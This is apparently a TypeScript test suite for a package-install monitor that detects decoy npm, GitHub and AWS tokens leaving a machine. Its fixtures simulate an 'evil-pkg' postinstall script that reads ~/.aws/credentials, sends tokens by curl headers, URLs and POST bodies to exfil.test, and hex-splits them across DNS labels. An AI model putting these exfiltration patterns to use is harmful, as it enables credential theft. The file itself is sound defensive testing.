import { DecoyMatcher } from './decoy-matcher.js';
import { behaviour, DECOYS, findingsOf, HOME, judge, policyFrom, summary, Trace } from '../testing/synthetic-trace.js';

const NPM = DECOYS.values[0]?.value ?? '';
const GITHUB = DECOYS.values[1]?.value ?? '';
const AWS = DECOYS.values[2]?.value ?? '';

function node(t: Trace, spec = 'evil-pkg@1.0.0') {
  return t.script(spec, 'postinstall', 'node setup.js').run('/usr/local/bin/node', ['node', 'setup.js']);
}

describe('DecoyMatcher', () => {
  const m = new DecoyMatcher(DECOYS);
  it.each([
    ['plain', `token=${NPM}`],
    ['url', `q=${encodeURIComponent(DECOYS.values[3]?.value ?? '')}`],
    ['hex', `x${Buffer.from(NPM).toString('hex').toUpperCase()}y`],
    ['base64', Buffer.from(`{"t":"${NPM}"}`).toString('base64')],
    ['base64', Buffer.from(`ab${NPM}`).toString('base64url')],
    ['base32', 'zz'],
  ])('finds a value encoded as %s', (encoding, text) => {
    if (encoding === 'base32') {
      const b32 = base32(Buffer.from(`xyz${NPM}`));
      expect(m.find(b32.toLowerCase()).map((s) => s.encoding)).toEqual(['base32']);
      return;
    }
    expect(m.find(text).map((s) => s.encoding)).toEqual([encoding]);
  });

  it('finds hex split across DNS labels, and redacts values from messages', () => {
    const hex = Buffer.from(AWS).toString('hex');
    expect(m.find(`${hex.slice(0, 50)}.${hex.slice(50)}.x.test`, { dotless: true }).map((s) => s.kind)).toEqual(['aws-secret-access-key']);
    expect(m.redact(`curl -H "Authorization: ${GITHUB}"`)).toBe('curl -H "Authorization: [decoy github-token]"');
  });

  it('does not match unrelated text', () => {
    expect(m.find('npm_ and ghp_ prefixes, AKIA, base64 of nothing: aGVsbG8gd29ybGQ=')).toEqual([]);
  });
});

function base32(bytes: Buffer): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let bits = '';
  for (const b of bytes) bits += b.toString(2).padStart(8, '0');
  let out = '';
  for (let i = 0; i + 5 <= bits.length; i += 5) out += alphabet[parseInt(bits.slice(i, i + 5), 2)];
  return out;
}

describe('decoy-exfiltration', () => {
  it('fires for the gateway\'s sightings, attributed through the request they were seen in', () => {
    const t = new Trace();
    const http = t.http({ method: 'POST', url: 'https://exfil.test/c', host: 'exfil.test', decision: 'sinked' }, node(t));
    t.decoy({ decoyKind: 'npm-token', where: 'body', encoding: 'base64', seenIn: http.id });
    const [f] = findingsOf(judge(t), 'decoy-exfiltration');
    expect(f).toMatchObject({ severity: 'critical', package: { name: 'evil-pkg' }, subject: 'npm-token via body' });
    expect(f?.message).toBe('the npm-token decoy appeared in a request body to exfil.test:443 (base64)');
  });

  it('finds decoys itself in arguments, URLs, headers, bodies and DNS names, and never prints them', () => {
    const t = new Trace();
    const n = node(t);
    n.run('/usr/bin/curl', ['curl', '-H', `Authorization: token ${GITHUB}`, 'https://api.github.test/user']);
    t.http({ url: `https://x.test/?k=${NPM}`, host: 'x.test', decision: 'sinked', headers: { 'x-k': AWS }, body: Buffer.from(NPM).toString('base64') }, n);
    t.dns(`${Buffer.from(NPM).toString('hex').slice(0, 60)}.${Buffer.from(NPM).toString('hex').slice(60)}.oast.test`, n);
    const result = judge(t);
    expect(findingsOf(result, 'decoy-exfiltration').map((f) => [f.subject, f.severity])).toEqual([
      ['github-token via argv', 'critical'],
      ['npm-token via url', 'critical'],
      ['aws-secret-access-key via header', 'critical'],
      ['npm-token via body', 'critical'],
      ['npm-token via dns', 'critical'],
    ]);
    const printed = JSON.stringify(result);
    for (const v of [NPM, GITHUB, AWS]) expect(printed).not.toContain(v);
  });

  it('a decoy in the arguments of a non-network program is high', () => {
    const t = new Trace();
    node(t).run('/usr/local/bin/node', ['node', '-e', `require("fs").writeFileSync("/tmp/t", "${NPM}")`]);
    expect(summary(judge(t))).toContain('decoy-exfiltration:high');
  });

  it('does not fire for the package manager authenticating to the registry', () => {
    const t = new Trace();
    const http = t.http({ url: 'https://registry.example/@scope%2fprivate', host: 'registry.example', decision: 'registry', headers: { authorization: `Bearer ${NPM}` } });
    t.decoy({ decoyKind: 'npm-token', where: 'header', seenIn: http.id });
    expect(judge(t).findings).toEqual([]);
  });

  it('does fire when a script sends the npm token to the registry', () => {
    const t = new Trace();
    t.http({ url: 'https://registry.example/-/whoami', host: 'registry.example', decision: 'registry', headers: { authorization: `Bearer ${NPM}` } }, node(t));
    expect(summary(judge(t))).toEqual(['decoy-exfiltration:critical', 'token-use:high', 'script-not-allowed:info']);
  });

  it('an env allowance lets a package pass a variable to its own tools and allowed hosts (prebuild downloads with GITHUB_TOKEN)', () => {
    const t = new Trace();
    const n = node(t, 'prebuild-thing@1.0.0');
    n.run('/usr/local/bin/node', ['node', 'download.js', '--token', GITHUB]);
    t.http({ url: 'https://api.github.com/repos/o/r/releases', host: 'api.github.com', decision: 'allowed', headers: { authorization: `token ${GITHUB}` } }, n);
    const policy = policyFrom('version: 1\npackages:\n  prebuild-thing:\n    env: [GITHUB_TOKEN]\n    network: ["api.github.com:443"]\n');
    expect(judge(t, policy).findings).toEqual([]);
    // The same token to a host it may not reach is still exfiltration.
    t.http({ url: 'https://exfil.test/', host: 'exfil.test', decision: 'sinked', headers: { authorization: `token ${GITHUB}` } }, n);
    expect(findingsOf(judge(t, policy), 'decoy-exfiltration').map((f) => f.subject)).toEqual(['github-token via header']);
  });
});

describe('correlation', () => {
  it('a credential read followed by traffic out of the same package makes both critical', () => {
    const t = new Trace();
    const n = node(t);
    const read = n.read(`${HOME}/.aws/credentials`);
    const post = t.http({ method: 'POST', url: 'https://exfil.test/c', host: 'exfil.test', decision: 'sinked' }, n);
    const result = judge(t);
    const [readFinding] = findingsOf(result, 'decoy-credential-read');
    const [net] = findingsOf(result, 'network-not-allowed');
    expect(readFinding?.severity).toBe('critical');
    expect(readFinding?.message).toBe(`read the credential file ${HOME}/.aws/credentials (aws-secret-access-key); then it contacted exfil.test:443`);
    expect(readFinding?.evidence).toEqual([read.id, post.id]);
    expect(net?.severity).toBe('critical');
    expect(net?.evidence).toContain(read.id);
  });

  it('traffic before the read, a failed read, or traffic of another package does not escalate', () => {
    const t = new Trace();
    const n = node(t);
    t.http({ url: 'https://cdn.test/x', host: 'cdn.test', decision: 'allowed' }, n);
    n.read(`${HOME}/.kube/config`);
    n.read(`${HOME}/.aws/credentials`, { ok: false, errno: 'EACCES' });
    t.http({ url: 'https://other.test/x', host: 'other.test', decision: 'allowed' }, node(t, 'other@1.0.0'));
    expect(behaviour(judge(t))).toEqual(['network-not-allowed:high', 'decoy-credential-read:high', 'network-not-allowed:high', 'credential-store-read:medium']);
  });
});
